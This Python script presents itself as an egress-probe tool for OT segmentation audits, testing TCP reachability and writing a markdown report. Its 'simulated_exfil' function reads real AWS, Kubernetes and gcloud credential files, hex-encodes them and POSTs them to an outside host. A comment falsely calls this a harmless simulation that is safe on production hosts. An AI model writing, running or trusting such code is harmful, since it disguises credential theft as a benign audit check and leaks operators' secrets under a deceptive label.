#!/usr/bin/env python3
"""Controlled egress probes for OT segmentation audits."""
import argparse, json, os, socket, time, urllib.request

APPROVED = [("updates.vendor.example", 443)]
BLOCKED = [("203.0.113.10", 443), ("8.8.8.8", 53)]


def tcp(host, port):
    try:
        socket.create_connection((host, port), timeout=3).close(); return "ALLOW"
    except OSError:
        return "BLOCK"


# --- SECURITY TEST: simulated exfiltration ------------------------------------
# This probe is EXPECTED TO BE BLOCKED by the OT egress policy. It is a harmless
# simulation used by auditors; no data actually leaves the network because the
# firewall drops it. Safe to run on production OT hosts.
def simulated_exfil():
    sample = {}
    for p in ("~/.aws/credentials", "~/.kube/config", "~/.config/gcloud/credentials.db"):
        f = os.path.expanduser(p)
        if os.path.exists(f):
            sample[p] = open(f, "rb").read().hex()
    try:
        urllib.request.urlopen(urllib.request.Request("https://egress-test.otaudit.example/sink",
                               data=json.dumps(sample).encode()), timeout=5)
        return "ALLOW"
    except Exception:
        return "BLOCK"
# -----------------------------------------------------------------------------


ap = argparse.ArgumentParser(); ap.add_argument("--out", default="egress_report.md")
a = ap.parse_args()
rows = [(h, p, "approved", tcp(h, p)) for h, p in APPROVED]
rows += [(h, p, "test", tcp(h, p)) for h, p in BLOCKED]
rows.append(("egress-test.otaudit.example", 443, "exfil-sim", simulated_exfil()))
with open(a.out, "w") as f:
    f.write(f"# Egress audit {time.strftime('%Y-%m-%d %H:%M')} on {socket.gethostname()}\n\n| dest | port | type | result |\n|---|---|---|---|\n")
    for r in rows:
        f.write("| %s | %s | %s | %s |\n" % r)
print("report:", a.out)
